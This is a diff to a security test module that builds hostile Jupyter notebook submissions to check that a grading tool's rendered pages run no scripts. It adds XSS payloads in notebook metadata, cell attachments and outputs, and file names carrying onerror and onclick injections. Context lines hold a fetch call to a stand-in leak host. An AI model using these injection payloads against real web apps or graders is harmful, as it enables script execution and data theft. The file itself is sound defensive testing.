@@ -1,8 +1,9 @@
 """What is shown to people carries scripts, styles and links: pages run and fetch nothing, terminals show plain text."""
 
 import base64
+import json
 
-from tests.attacks.submission import FULL, alone, beside, changed
+from tests.attacks.submission import FULL, alone, beside, changed, files
 
 RUN = "window.ran = 1; document.title = 'ran'; fetch('http://leak.test/x')"
 HTML = [
@@ -83,6 +84,40 @@ def more_cells(notebook):
             notebook["cells"].append({"cell_type": kind, "metadata": {"format": "text/html"}, "source": text})
 
 
+def metadata(notebook):
+    """Whatever a notebook says of itself: its kernel, its language, its authors, tags, attachments, old outputs."""
+    evil = HTML[0] + HTML[1]
+    notebook["metadata"] = {
+        "kernelspec": {"name": evil, "display_name": evil, "language": evil},
+        "language_info": {"name": evil, "codemirror_mode": evil, "mimetype": evil},
+        "title": evil, "authors": [{"name": evil}], "widgets": {evil: {"state": {evil: evil}}},
+    }  # fmt: skip
+    for cell in notebook["cells"]:
+        cell["metadata"] |= {
+            "tags": [evil],
+            "name": evil,
+            "format": "text/html",
+            "slideshow": {"slide_type": evil},
+        }
+        if cell["cell_type"] == "markdown":
+            cell["attachments"] = {
+                evil: {"image/svg+xml": SVG},
+                "x.svg": {"image/svg+xml": SVG, "text/html": evil},
+            }
+        else:
+            cell["outputs"] = [
+                {"output_type": "display_data", "metadata": {evil: evil}, "data": {"text/html": evil}}
+            ]
+    free_response("![x](attachment:x.svg) [x](attachment:x.svg)")(notebook)
+
+
+def file_names(folder, notebook):
+    """Names of other files, which the remarks on a submission repeat."""
+    (folder / "gibbs_principle.ipynb").write_text(json.dumps(notebook))
+    for name in ("<img src=x onerror=window.ran=1>.ipynb", "<script>window.ran=1<", 'a"onclick="x.ipynb'):
+        (folder / name).write_text("{}")
+
+
 def markup_in_the_source(notebook):
     for cell in notebook["cells"]:
         if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
@@ -97,6 +132,8 @@ ATTACKS = {
     "free_response": changed(free_response("\n\n".join(MARKDOWN))),
     "cells": changed(more_cells),
     "source": changed(markup_in_the_source),
+    "metadata": changed(metadata),
+    "file_names": files(file_names, FULL),
     "figure": beside(
         f"import matplotlib.pyplot as plt\nplt.plot([1, 2], gid={HTML[0]!r}, url='javascript:window.ran=1')\nplt.title('<script>window.ran=1')\n"
         "%config InlineBackend.figure_formats = ['svg', 'png']\nplt.show()",
